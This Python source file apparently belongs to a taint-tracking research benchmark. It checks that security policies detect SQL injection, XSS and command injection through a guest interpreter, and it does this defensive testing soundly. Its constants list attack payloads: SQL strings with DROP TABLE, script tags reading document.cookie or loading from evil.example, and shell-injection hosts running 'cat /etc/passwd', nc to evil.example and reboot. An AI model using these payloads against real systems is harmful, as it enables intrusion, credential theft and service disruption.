"""Guest-interpreter benchmark: MiniScript VM under the H3/H5 policies.

The campaign behind ``BENCH_guest.json``: the MiniScript bytecode VM
(:mod:`repro.apps.guestvm` — a guest interpreter written in MiniC and
instrumented by our own pipeline) serves seeded mixes of clean and
attacking script requests, and the Table-1 high-level policies must
fire *through* the interpreter's dispatch-loop indirection:

1. **Detection mixes** (per service, per seed): interleaved clean and
   attack requests against the key-value store (SQL injection → H3 at
   the ``sql`` use point), the templating handler (XSS → H5 at the
   ``html_output`` use point) and the ping service (command injection
   → H4 at the ``system`` use point), run in ``recover`` mode.  Every
   attack
   must be quarantined with the right policy id and an origin chain
   reaching the tainted *network request bytes* — not just VM-internal
   addresses — and every clean request must be answered.  Each mix is
   run twice; the digests must match bit-for-bit.
2. **Clean mixes**: the same servers fed only clean traffic (including
   parameterized queries and escaped templates carrying the *attack
   payloads* — the strongest true-negatives).  Zero alerts allowed.
3. **Adaptive arm**: the dual-version VM serves the same attack mix in
   always-on, adaptive ("on"), and pinned-track modes — the alert
   streams must be identical — and a clean template mix must actually
   exercise mode switching (the VM quiesces between requests).
4. **Fleet smoke**: MiniScript requests cross a machine boundary as
   :class:`~repro.fleet.wire.TaggedMessage` frames into interior-tier
   workers that trust their own ingress.  The tagged attack must be
   quarantined (proof the wire tags are load-bearing); the identical
   payload with zero tags must sail through.

Run and gated as the ``guest`` suite of :mod:`repro.harness.suites`,
whose gate table holds the conditions::

    PYTHONPATH=src python -m repro.harness.suites guest --quick --gate
"""

from __future__ import annotations

import hashlib
import json
import random
from typing import Dict, List, Optional, Sequence, Tuple

from repro.apps.guestvm import (
    kv_get_request,
    kv_pget_request,
    kv_set_request,
    ping_request,
    template_request,
)
from repro.compiler.instrument import BYTE_LEVEL
from repro.fleet.driver import FleetConfig, FleetDriver
from repro.fleet.wire import TaggedMessage
from repro.harness.runners import (guest_backend_policy, guestvm_policy,
                                   incident_rows, serve_requests,
                                   switch_stats)

#: Per-request instruction budget in recover mode.  A MiniScript
#: request completes in well under 500k instructions.
GUEST_WATCHDOG = 5_000_000

MAX_INSTRUCTIONS = 2_000_000_000

#: H3 attack payloads: tainted SQL metachars breaking out of the key
#: literal the vulnerable GET verb concatenates.
SQL_ATTACK_KEYS = (
    "x' OR '1'='1",
    "nobody'; DROP TABLE kv; --",
    'x" OR 1=1',
)

#: H5 attack payloads: tainted script tags in unescaped RAW output.
XSS_PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT src=//evil.example/x.js></SCRIPT>",
    "pre< script>document.cookie</script>",
)

#: H4 attack payloads: tainted shell metachars chaining extra commands
#: onto the ping the vulnerable verb concatenates.
CMD_ATTACK_HOSTS = (
    "localhost;cat /etc/passwd",
    "host.example|nc evil.example 80",
    "a.example`reboot`",
)

_WORDS = ("alice", "bob", "carol", "dave", "erin", "frank", "grace",
          "heidi", "ivan", "judy", "mallory", "niaj", "olivia", "peggy")


def _kv_mix(rng: random.Random, clean: int, attacks: int,
            with_attacks: bool) -> List[Tuple[bytes, Optional[str]]]:
    """Seeded KV-store traffic: (request, expected policy or None)."""
    requests: List[Tuple[bytes, Optional[str]]] = []
    for i in range(clean):
        key = rng.choice(_WORDS) + str(rng.randrange(100))
        kind = rng.randrange(3)
        if kind == 0:
            requests.append((kv_set_request(key, rng.choice(_WORDS)), None))
        elif kind == 1:
            # Vulnerable path, benign key: a true-negative through the
            # concatenated query (no metachar, no alert).
            requests.append((kv_get_request(key), None))
        else:
            # Parameterized control fed a *hostile* key: the strongest
            # true-negative — same attack bytes, no alert.
            requests.append((kv_pget_request(rng.choice(SQL_ATTACK_KEYS)),
                             None))
    if with_attacks:
        for i in range(attacks):
            requests.append((kv_get_request(rng.choice(SQL_ATTACK_KEYS)),
                             "H3"))
    rng.shuffle(requests)
    return requests


def _tmpl_mix(rng: random.Random, clean: int, attacks: int,
              with_attacks: bool) -> List[Tuple[bytes, Optional[str]]]:
    """Seeded template traffic: (request, expected policy or None)."""
    requests: List[Tuple[bytes, Optional[str]]] = []
    for i in range(clean):
        kind = rng.randrange(3)
        if kind == 0:
            requests.append(
                (template_request(rng.choice(_WORDS)), None))
        elif kind == 1:
            # RAW with markup that is not a script tag: tainted bytes
            # in the output, but nothing H5 fires on.
            requests.append(
                (template_request(f"<b>{rng.choice(_WORDS)}</b>"), None))
        else:
            # Escaped control fed the attack payload itself.
            requests.append(
                (template_request(rng.choice(XSS_PAYLOADS), escaped=True),
                 None))
    if with_attacks:
        for i in range(attacks):
            requests.append(
                (template_request(rng.choice(XSS_PAYLOADS)), "H5"))
    rng.shuffle(requests)
    return requests


def _ping_mix(rng: random.Random, clean: int, attacks: int,
              with_attacks: bool) -> List[Tuple[bytes, Optional[str]]]:
    """Seeded ping-service traffic: (request, expected policy or None)."""
    requests: List[Tuple[bytes, Optional[str]]] = []
    for i in range(clean):
        host = rng.choice(_WORDS) + str(rng.randrange(100)) + ".example"
        kind = rng.randrange(3)
        if kind == 0:
            # Vulnerable path, benign host: tainted bytes reach the
            # shell command with no metachar among them — a
            # true-negative through the concatenation.
            requests.append((ping_request(host), None))
        elif kind == 1:
            # Validated control fed a *hostile* host: the in-script
            # charset check rejects it before the shell-out.
            requests.append(
                (ping_request(rng.choice(CMD_ATTACK_HOSTS), validated=True),
                 None))
        else:
            requests.append((ping_request(host, validated=True), None))
    if with_attacks:
        for i in range(attacks):
            requests.append(
                (ping_request(rng.choice(CMD_ATTACK_HOSTS)), "H4"))
    rng.shuffle(requests)
    return requests


SERVICES = {
    "kv": {"variant": "guest-kv", "policy_id": "H3", "mix": _kv_mix},
    "template": {"variant": "guest-tmpl", "policy_id": "H5",
                 "mix": _tmpl_mix},
    "ping": {"variant": "guest-ping", "policy_id": "H4",
             "mix": _ping_mix},
}


def _run_mix(variant: str, mix: Sequence[Tuple[bytes, Optional[str]]],
             adaptive: str = "none", engine_mode: str = "recover") -> Dict:
    """Serve one request mix; return the canonical outcome dict.

    The VM runs strict byte-granularity (``BYTE_LEVEL``): its own
    address arithmetic is untainted by construction, so no
    pointer-policy relaxation is needed.
    """
    summary, _machine = serve_requests(FleetConfig(
        variant=variant, options=BYTE_LEVEL,
        policy_config=guestvm_policy(),
        engine_mode=engine_mode,
        recover_watchdog=GUEST_WATCHDOG,
        tracing=True,
        adaptive=adaptive,
        max_instructions=MAX_INSTRUCTIONS,
    ), [(payload, None) for payload, _expected in mix])
    metrics = summary["metrics"]
    outcome = {
        "served": summary["served"],
        "responses": [r.decode("latin-1") for r in summary["responses"]],
        "quarantined": metrics["net.quarantined"],
        "incidents": incident_rows(summary),
        "alerts": [
            {"policy_id": a["policy_id"], "message": a["message"],
             "context": a["context"], "origins": a["origins"]}
            for a in summary["alerts"]
        ],
        "instructions": metrics["cpu.instructions"],
    }
    stats = switch_stats(metrics)
    if stats is not None:
        outcome["adaptive_stats"] = stats
    return outcome


def _digest(outcome: Dict) -> str:
    """Deterministic fingerprint of one mix run's observable outcome."""
    canonical = {k: outcome[k] for k in
                 ("served", "responses", "quarantined", "incidents",
                  "alerts", "instructions")}
    blob = json.dumps(canonical, sort_keys=True).encode()
    return hashlib.sha256(blob).hexdigest()


def _origins_reach_source(outcome: Dict, source: str = "network") -> bool:
    """Every alert's origin chain must name the tainted source bytes."""
    for alert in outcome["alerts"]:
        if not any(f"{source} 'request#" in o for o in alert["origins"]):
            return False
    return True


def detection_campaign(service: str, seed: int, clean: int,
                       attacks: int) -> Dict:
    """Attack + clean mixes for one guest service at one seed."""
    spec = SERVICES[service]
    rng = random.Random(seed)
    attack_mix = spec["mix"](rng, clean, attacks, True)
    expected = [p for _r, p in attack_mix if p is not None]

    first = _run_mix(spec["variant"], attack_mix)
    rerun = _run_mix(spec["variant"], attack_mix)
    digest, digest2 = _digest(first), _digest(rerun)

    clean_mix = spec["mix"](random.Random(seed + 1), clean, attacks, False)
    control = _run_mix(spec["variant"], clean_mix)

    detected = sum(1 for inc in first["incidents"]
                   if inc["reason"] == "alert"
                   and inc["policy"] == spec["policy_id"])
    entry = {
        "service": service,
        "seed": seed,
        "clean_requests": clean,
        "attacks": len(expected),
        "served": first["served"],
        "quarantined": first["quarantined"],
        "detected": detected,
        "detection_rate": detected / len(expected) if expected else 1.0,
        "origins_ok": _origins_reach_source(first),
        "digest": digest,
        "digest_stable": digest == digest2,
        "incidents": first["incidents"],
        "alert_origins": [a["origins"] for a in first["alerts"]],
        "clean_served": control["served"],
        "clean_false_alerts": len(control["alerts"]),
        "exact": (first["served"] == clean
                  and first["quarantined"] == len(expected)
                  and detected == len(expected)
                  and control["served"] == clean
                  and not control["alerts"]),
    }
    return entry


def adaptive_arm(seed: int, clean: int, attacks: int) -> Dict:
    """Dual-version VM: identical alerts, and real mode switching."""
    rng = random.Random(seed)
    attack_mix = _tmpl_mix(rng, clean, attacks, True)

    def alert_sig(outcome: Dict) -> List[Tuple[str, str, str]]:
        return [(a["policy_id"], a["message"], a["context"])
                for a in outcome["alerts"]]

    arms = {
        mode: _run_mix("guest-tmpl", attack_mix, adaptive=mode,
                       engine_mode="record")
        for mode in ("none", "on", "track")
    }
    signatures = {mode: alert_sig(outcome) for mode, outcome in arms.items()}
    alerts_match = (signatures["none"] == signatures["on"]
                    == signatures["track"])

    # Clean traffic through the switching VM: the per-request scrub
    # must re-quiesce the machine so the controller drops to fast mode.
    clean_mix = _tmpl_mix(random.Random(seed + 1), clean, attacks, False)
    switching = _run_mix("guest-tmpl", clean_mix, adaptive="on",
                         engine_mode="record")
    stats = switching["adaptive_stats"]
    return {
        "seed": seed,
        "attack_alerts": {m: len(s) for m, s in signatures.items()},
        "alerts_match": alerts_match,
        "clean_false_alerts": len(switching["alerts"]),
        "switches_to_fast": stats["switches_to_fast"],
        "switches_to_track": stats["switches_to_track"],
        "final_mode": stats["final_mode"],
        "exact": (alerts_match
                  and not switching["alerts"]
                  and stats["switches_to_fast"] >= 1),
    }


def fleet_smoke(seed: int) -> Dict:
    """MiniScript requests through TaggedMessage wire frames.

    Interior-tier workers trust their own network ingress
    (:func:`guest_backend_policy`), so the only way the XSS payload can
    alert is if the wire-transported tag bits survived the hop — and
    the untagged control (same bytes, zero tags) must be served.
    """
    config = FleetConfig(variant="guest-tmpl", options=BYTE_LEVEL,
                         policy_config=guest_backend_policy(), tracing=True)
    attack = template_request(XSS_PAYLOADS[0])
    clean = template_request("alice")
    requests = [
        TaggedMessage.from_flags(clean, [True] * len(clean)),
        TaggedMessage.from_flags(attack, [True] * len(attack)),
        TaggedMessage(payload=attack),   # zero tags: the control
        TaggedMessage.from_flags(clean, [True] * len(clean)),
    ]

    def run_once() -> "FleetResult":
        return FleetDriver(config, workers=2, seed=seed).run(requests)

    result = run_once()
    alerts = [a for w in result.workers for a in w["alerts"]]
    origins_ok = all(
        any("wire 'request#" in o for o in a["origins"]) for a in alerts)
    digest = result.digest()
    entry = {
        "seed": seed,
        "requests": len(requests),
        "served": result.served,
        "quarantined": result.quarantined,
        "alerts": [{"policy_id": a["policy_id"], "origins": a["origins"]}
                   for a in alerts],
        "origins_ok": origins_ok,
        "digest": digest,
        "digest_stable": digest == run_once().digest(),
        "exact": (result.served == 3
                  and result.quarantined == 1
                  and len(alerts) == 1
                  and alerts[0]["policy_id"] == "H5"
                  and origins_ok),
    }
    return entry


def run_suite(quick: bool, seed: int) -> Dict:
    """Full guest campaign; returns the report body."""
    clean, attacks = (6, 3) if quick else (14, 6)
    seeds = [seed] if quick else [seed, seed + 17]
    return {
        "services": {
            service: [detection_campaign(service, s, clean, attacks)
                      for s in seeds]
            for service in SERVICES
        },
        "adaptive": adaptive_arm(seed, clean, attacks),
        "fleet": fleet_smoke(seed),
    }
